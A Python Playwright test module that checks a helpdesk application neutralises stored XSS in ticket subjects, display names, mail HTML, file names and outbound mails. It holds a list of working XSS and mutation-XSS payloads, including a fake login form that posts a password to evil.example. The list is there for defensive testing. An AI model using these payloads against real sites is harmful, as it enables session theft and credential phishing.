"""Stored XSS: hostile subjects, bodies, display names and file names, brought in through the
real doors (the intake, the portal's forms), are inert everywhere a value is shown: in real
Chromium no dialog opens, no script error or CSP violation is reported, no element of the page
carries an event handler, a javascript: or data: URL, a <base>, a refresh, a frame or an
htmx attribute from a mail, and the hostile text reads as text.

The payloads come from the peers' advisories: Zammad's stored XSS in ticket titles and article
bodies (CVE-2023-48023 among others), FreeScout's in subjects, customer names and attachment
names (freescout-help-desk/freescout#1359, #5438), Znuny/OTRS's in mail HTML shown to agents
(OSA-2022-13, OSA-2023-07), django-helpdesk's (CVE-2021-3945: unescaped ticket titles and
queue names) and osTicket's (CVE-2022-31889 and its kin, HTML in thread entries); OWASP's XSS
Filter Evasion Cheat Sheet; and the mutation-XSS shapes that broke DOMPurify and the HTML
serialisers (noscript, svg/style, math/mglyph, comments, xmp), which nh3 must survive: CWE-79.
"""

from __future__ import annotations

import re
from datetime import timedelta
from email.message import EmailMessage
from email.policy import SMTP

import pytest
from django.contrib.auth.models import User
from django.utils import timezone
from playwright.sync_api import ConsoleMessage, Dialog, FilePayload, Page, expect

from deskside.docs import actions as docs
from deskside.mail.intake import ingest
from deskside.mail.models import Door, InboundMail, InboundStatus
from deskside.mail.parse import parse
from deskside.onsite import actions as onsite
from deskside.onsite.models import Visit
from deskside.outbox.models import OutboundMail
from deskside.tickets import actions
from deskside.tickets.models import Message, Ticket
from deskside.tickets.models.ticket import parse_ref
from tests.browser.conftest import browser_type_launch_args  # noqa: F401  (Debian's Chromium)
from tests.browser.test_desk import sign_in
from tests.browser.test_portal import sign_in_by_link
from tests.people import People, make_people

SUBJECT = "Sev 2 <img src=x onerror=alert('subject')> \"><script>alert('subject')</script> {{7*7}}"
NAME = "<img src=x onerror=alert('name')> \"><svg onload=alert('name')>"
TEXT = "<script>alert('text')</script> <a href=\"javascript:alert('text')\">click</a>"
FILE_NAME = "<img src=x onerror=alert('file')>.txt"
SEEN = "<img src=x onerror=alert("  # each payload's visible part, read as text

# Mail HTML, each piece from an advisory or the cheat sheet; nh3 keeps what is harmless.
HOSTILE_HTML = [
    "<script>alert('script')</script>",
    "<img src=x onerror=alert('img')>",
    "<body onload=alert('body')>",
    "<a href=\"javascript:alert('js')\">js link</a>",
    "<a href=\"jav&#x09;ascript:alert('tab')\">tab link</a>",
    "<a href=\"&#106;avascript:alert('entity')\">entity link</a>",
    "<a href=\"data:text/html,<script>alert('data')</script>\">data link</a>",
    "<svg onload=alert('svg')><script>alert('svg script')</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('mglyph')>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert('form')>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('noscript')>\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert('style')>\">",
    "<!--<img src=\"--><img src=x onerror=alert('comment')//\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert('xmp')>\">",
    "<div style=\"width: expression(alert('css'))\">css expression</div>",
    "<style>@import 'javascript:alert(1)'; body{background:url(javascript:alert(2))}</style>",
    "<base href=\"javascript:alert('base')//\">",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'refresh\')">',
    "<iframe src=\"javascript:alert('iframe')\"></iframe>",
    "<iframe srcdoc=\"<script>alert('srcdoc')</script>\"></iframe>",
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgnb2JqZWN0Jyk8L3NjcmlwdD4="></object>',
    "<embed src=\"javascript:alert('embed')\">",
    '<form action="https://evil.example/"><input name=password><button>Log in</button></form>',
    "<details open ontoggle=alert('details')><summary>s</summary></details>",
    "<input autofocus onfocus=alert('focus')>",
    "<video><source onerror=alert('video')></video>",
    "<table background=\"javascript:alert('table')\"><tr><td>cell</td></tr></table>",
    '<div hx-post="close/" hx-vals=\'{"reason": "solved"}\' hx-trigger="load">htmx</div>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<a href="https://deskside.example/docs">a fair link</a>',
    "<p>The last fair words.</p>",
]

# Run in the page after each load: whatever the page holds that could run or lead elsewhere.
DOM_CHECK = """() => {
  const bad = [];
  const risky = /^\\s*(javascript|vbscript|data):/i;
  for (const el of document.querySelectorAll('*')) {
    for (const a of el.attributes) {
      const name = a.name.toLowerCase();
      if (name.startsWith('on')) bad.push(el.tagName + '[' + name + ']');
      if (['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'srcdoc', 'background',
           'poster'].includes(name) && risky.test(a.value)) bad.push(el.tagName + '[' + name + ']');
      const inMail = el.closest('.mail-html, .message-html');
      if (name.startsWith('hx-') && name !== 'hx-disable' && inMail)
        bad.push(el.tagName + '[' + name + ']');
    }
  }
  for (const el of document.querySelectorAll(
      'base, meta[http-equiv], iframe, frame, object, embed'))
    bad.push(el.tagName);
  for (const el of document.querySelectorAll(
      '.mail-html :is(script, style, form, input, button, svg, math, link), ' +
      '.message-html :is(script, style, form, input, button, svg, math, link)'))
    bad.push('mail ' + el.tagName);
  return bad;
}"""

CSP_REPORTER = """document.addEventListener('securitypolicyviolation', e =>
  console.error('CSP violation: ' + e.violatedDirective + ' ' + e.blockedURI));"""


class Watch:
    """Everything a page does that it should not: dialogs, script errors, CSP violations."""

    def __init__(self, page: Page) -> None:
        self.problems: list[str] = []
        page.add_init_script(CSP_REPORTER)
        page.on("dialog", self._dialog)
        page.on("pageerror", lambda error: self.problems.append(f"script error: {error}"))
        page.on("console", self._console)

    def _dialog(self, dialog: Dialog) -> None:
        self.problems.append(f"dialog: {dialog.message}")
        dialog.dismiss()

    def _console(self, message: ConsoleMessage) -> None:
        if message.type == "error":
            self.problems.append(f"console: {message.text}")


def assert_inert(page: Page, watch: Watch, url: str, *, shows: tuple[str, ...] = ()) -> None:
    """Open `url`: nothing runs, nothing hostile is in the DOM, and `shows` reads as text."""
    watch.problems.clear()
    response = page.goto(url)
    assert response is not None and response.status == 200, (url, response and response.status)
    page.wait_for_load_state("networkidle")
    assert page.evaluate(DOM_CHECK) == [], url
    body = page.locator("body").inner_text()
    for text in shows:
        assert text in body or text in page.title(), (url, text)
    page.wait_for_timeout(300)  # an autofocus or a timer would fire by now
    assert watch.problems == [], (url, watch.problems)


def hostile_mail(sender: str, subject: str, html: str, message_id: str) -> bytes:
    """The body built by the email package, the header block by hand: the package refolds a
    display name holding quotes into a broken From (a second line without white space)."""
    mail = EmailMessage()
    mail.set_content(TEXT)
    mail.add_alternative(html, subtype="html")
    mail.add_attachment(b"plain", maintype="text", subtype="plain", filename=FILE_NAME)
    head = (
        f"From: {sender}\r\nTo: support@deskside.test\r\nSubject: {subject}\r\n"
        f"Message-ID: {message_id}\r\n"
    )
    return head.encode() + mail.as_bytes(policy=SMTP)


def scene() -> tuple[People, Ticket, Ticket, Visit]:
    """Claire (whose display name is hostile) mails a hostile ticket; a stranger's reply to it is
    held; a level-4 ticket with a hostile subject plans a documentation change; a visit is
    scheduled on Claire's ticket. Every agent is told (level 2, held mail)."""
    people = make_people()
    people.client.name = NAME
    people.client.save()
    html = "".join(HOSTILE_HTML)
    quoted = NAME.replace('"', '\\"')
    result = ingest(hostile_mail(f'"{quoted}" <Claire@Acme.example>', SUBJECT, html, "<x1@acme>"),
                    door=Door.PIPE)  # fmt: skip
    assert result.outcome == "created", result
    pk = parse_ref(result.ticket or "")
    assert pk is not None, result
    ticket = Ticket.objects.get(pk=pk)
    held = hostile_mail("mallory@evil.example", f"Re: [{ticket.ref}] {SUBJECT}", html, "<x2@evil>")
    assert ingest(held, door=Door.PIPE).outcome == "quarantined"
    level4 = ingest(hostile_mail("Claire@Acme.example", SUBJECT.replace("Sev 2", "Sev 4"), html,
                                 "<x3@acme>"), door=Door.PIPE)  # fmt: skip
    doc_pk = parse_ref(level4.ticket or "")
    assert doc_pk is not None, level4
    doc_ticket = Ticket.objects.get(pk=doc_pk)
    docs.add_change(doc_ticket, document="ops_doc", what=TEXT, where=NAME, by=people.agent)
    visit = onsite.request_visit(ticket, TEXT, by=people.agent)
    start = timezone.localtime().replace(hour=10, minute=0, second=0, microsecond=0)
    for days in range(1, 15):  # the next working day, whatever today is
        try:
            visit = onsite.schedule(visit, technician=people.technician, by=people.agent,
                                    start=start + timedelta(days=days),
                                    duration=timedelta(hours=1))  # fmt: skip
            break
        except onsite.VisitError:
            continue
    return people, ticket, doc_ticket, visit


@pytest.mark.django_db(transaction=True)
def test_the_desk_shows_hostile_mail_as_text_in_chromium(live_server, page: Page):
    """Zammad CVE-2023-48023, FreeScout #1359 and #5438, django-helpdesk CVE-2021-3945, Znuny
    OSA-2022-13: the queue, a ticket page and its title, search, held mail, notifications, the
    documentation backlog and the visit pages, as an agent and a technician see them."""
    _people, ticket, doc_ticket, visit = scene()
    held = InboundMail.objects.get(status=InboundStatus.QUARANTINED)
    base = live_server.url
    watch = Watch(page)
    sign_in(page, base, "alice")
    subject_text = SUBJECT
    for url, shows in (
        ("/desk/", (subject_text, NAME)),
        ("/desk/?level=2", (subject_text,)),
        (f"/desk/ticket/{ticket.ref}/", (subject_text, NAME, TEXT, FILE_NAME, "js link")),
        (f"/desk/ticket/{doc_ticket.ref}/", (TEXT, NAME)),
        ("/desk/search/?q=onerror", (subject_text,)),
        (f"/desk/search/?q={SUBJECT}", ()),
        ("/desk/held/", (SEEN,)),
        (f"/desk/held/{held.pk}/", (SEEN, TEXT, FILE_NAME)),
        ("/desk/notifications/", (SEEN,)),
        ("/desk/docs/", (TEXT, NAME)),
        (f"/desk/docs/ticket/{doc_ticket.ref}/add/", ()),
        (f"/desk/visits/{visit.pk}/", (TEXT,)),
        (f"/desk/visits/request/{ticket.ref}/", ()),
    ):
        assert_inert(page, watch, base + url, shows=shows)
    page.goto(f"{base}/desk/ticket/{ticket.ref}/")
    assert page.title() == f"{ticket.ref} {SUBJECT} — Deskside"
    expect(page.get_by_role("heading", name=SUBJECT)).to_be_visible()
    # The held mail's sanitised HTML, opened.
    page.goto(f"{base}/desk/held/{held.pk}/")
    page.get_by_text("Show as HTML (sanitised)").click()
    assert page.evaluate(DOM_CHECK) == []
    browser = page.context.browser
    assert browser is not None
    tom = browser.new_page()  # the technician's own visits
    tom_watch = Watch(tom)
    sign_in(tom, base, "tom")
    assert_inert(tom, tom_watch, f"{base}/desk/visits/", shows=(SEEN,))
    tom.close()
    ticket.refresh_from_db()
    assert ticket.is_open()  # the htmx gadget in the mail did nothing


@pytest.mark.django_db(transaction=True)
def test_the_portal_shows_hostile_input_as_text_in_chromium(live_server, page: Page):
    """FreeScout #5438, osTicket CVE-2022-31889: the portal's forms are a door too. Claire types
    hostile text into a new ticket, a reply, a refusal and a file name; the portal and the
    desk (the ticket, its history and evidence) show it as text."""
    people = make_people()
    base = live_server.url
    watch = Watch(page)
    sign_in_by_link(page, base, "claire@acme.example")
    page.get_by_role("button", name="EN", exact=True).click()
    page.get_by_role("link", name="New ticket").first.click()
    page.get_by_label("Subject").fill(SUBJECT)
    page.get_by_label(re.compile("Major")).check()
    page.get_by_label("Description").fill(TEXT)
    page.get_by_label("Attachments").set_input_files(
        files=[FilePayload(name=FILE_NAME, mimeType="text/html", buffer=b"<script>x</script>")]
    )
    page.get_by_role("button", name="Open the ticket").click()
    expect(page.get_by_role("heading", name=re.compile("CCS-"))).to_be_visible()
    ticket = Ticket.objects.get()
    assert ticket.subject == SUBJECT
    page.get_by_label("Your reply").fill(NAME)
    page.get_by_role("button", name="Send reply").click()
    expect(page.get_by_text("Your reply was added to the ticket.")).to_be_visible()
    actions.propose_steps(ticket, TEXT, by=actions.Actor.staff(people.agent))
    page.reload()
    page.get_by_label(re.compile("Why do the steps not suit you")).fill(NAME)
    page.get_by_role("button", name="Refuse the proposed steps").click()
    for url, shows in (
        ("/portal/", (SUBJECT,)),
        (f"/portal/?q={SUBJECT}", ()),
        (f"/portal/ticket/{ticket.ref}/", (SUBJECT, TEXT, NAME, FILE_NAME)),
    ):
        assert_inert(page, watch, base + url, shows=shows)
    browser = page.context.browser
    assert browser is not None
    agent = browser.new_page()
    agent_watch = Watch(agent)
    sign_in(agent, base, "alice")
    assert_inert(agent, agent_watch, f"{base}/desk/ticket/{ticket.ref}/",
                 shows=(SUBJECT, TEXT, NAME, FILE_NAME))  # fmt: skip
    assert_inert(agent, agent_watch, f"{base}/desk/notifications/", shows=(SEEN,))
    agent.close()


@pytest.mark.django_db(transaction=True)
def test_the_admin_shows_hostile_values_as_text_in_chromium(live_server, page: Page):
    """django-helpdesk CVE-2021-3945 (titles unescaped in its admin-like views), Znuny
    OSA-2023-07: the admin's lists and pages of incoming mail, messages and tickets."""
    _people, ticket, _doc, _visit = scene()
    User.objects.create_superuser("root", "root@ccs2.test", "pw-root")
    held = InboundMail.objects.get(status=InboundStatus.QUARANTINED)
    message = Message.objects.filter(ticket=ticket).order_by("id").first()
    assert message is not None
    base = live_server.url
    watch = Watch(page)
    page.goto(f"{base}/admin/login/")
    page.get_by_label("Username").fill("root")
    page.get_by_label("Password").fill("pw-root")
    page.get_by_role("button", name="Log in").click()
    for url, shows in (
        ("/admin/mail/inboundmail/", (SEEN,)),
        (f"/admin/mail/inboundmail/{held.pk}/change/", (SEEN, TEXT)),
        ("/admin/tickets/message/", ()),
        (f"/admin/tickets/message/{message.pk}/change/", (TEXT,)),
        ("/admin/tickets/ticket/", (SEEN,)),
        (f"/admin/tickets/ticket/{ticket.pk}/change/", (SEEN,)),
        ("/admin/accounts/contact/", (SEEN,)),
    ):
        assert_inert(page, watch, base + url, shows=shows)


@pytest.mark.django_db(transaction=True)
def test_mails_to_the_client_and_to_staff_are_inert_in_chromium(live_server, page: Page):
    """Znuny OSA-2022-13 and Zammad's notification XSS: the client's mails carry an HTML part
    made from their own text (notices.to_client: urlize(autoescape=True)), rendered here without
    any CSP, as a mail program would; the staff's mails have no HTML part at all."""
    people, ticket, _doc, _visit = scene()
    actions.reply(
        ticket, TEXT + " https://deskside.example/x?a=<b>", by=actions.Actor.staff(people.agent)
    )
    to_client = OutboundMail.objects.filter(primary_to="claire@acme.example").exclude(html="")
    assert {m.purpose for m in to_client} >= {"acknowledgement", "reply"}
    watch = Watch(page)
    for mail in to_client:
        watch.problems.clear()
        page.set_content(mail.html)
        page.wait_for_timeout(200)
        assert page.evaluate(DOM_CHECK) == [], mail.purpose
        assert watch.problems == [], (mail.purpose, watch.problems)
        shown = page.locator("body").inner_text()
        for piece in ("<img src=x onerror=alert(", "<script>alert("):
            assert (piece in shown) == (piece in mail.text), (mail.purpose, piece)  # as text
    staff = OutboundMail.objects.filter(primary_to__endswith="@ccs2.test")
    assert {m.purpose for m in staff} >= {"escalation", "held_mail"}
    for mail in staff:
        assert mail.html == "", mail.purpose
        assert SEEN in mail.text or SEEN in mail.subject, mail.purpose


# -- the sanitiser, shape by shape -------------------------------------------------------------


def test_each_shape_nh3_left_is_inert_in_chromium_without_a_csp(page: Page):
    """The mutation-XSS shapes work on the browser's second parse of what a sanitiser wrote; in a
    mail the first unclosed <svg> or <style> swallows the rest, so here each shape is sanitised
    alone and written into a page with no CSP at all, where a handler that survived would run."""
    watch = Watch(page)
    for markup in HOSTILE_HTML:
        raw = (
            "From: a@b.example\r\nSubject: x\r\nMIME-Version: 1.0\r\n"
            "Content-Type: text/html; charset=utf-8\r\n\r\n" + markup
        ).encode()
        page.set_content(f'<div class="mail-html">{parse(raw).html or ""}</div>')
        page.wait_for_timeout(100)
        assert page.evaluate(DOM_CHECK) == [], markup
        assert watch.problems == [], (markup, watch.problems)


@pytest.mark.parametrize("markup", HOSTILE_HTML, ids=range(len(HOSTILE_HTML)))
def test_nh3_leaves_nothing_that_runs_or_leads_away(markup):
    """Each shape alone through the parser's sanitiser (deskside/mail/html.py): no element or
    attribute that runs script, loads a frame, submits a form, or rewrites the page's base."""
    raw = (
        "From: a@b.example\r\nSubject: x\r\nMIME-Version: 1.0\r\n"
        "Content-Type: text/html; charset=utf-8\r\n\r\n" + markup
    ).encode()
    html = (parse(raw).html or "").lower()
    for token in ("<script", "<iframe", "<object", "<embed", "<base", "<meta", "<form", "<input",
                  "<svg", "<math", "<style", "<link", "srcdoc", "javascript:", "data:", "hx-",
                  "expression("):  # fmt: skip
        assert token not in html, (token, html)
    assert not re.search(r"<[^>]+\son\w+\s*=", html), html
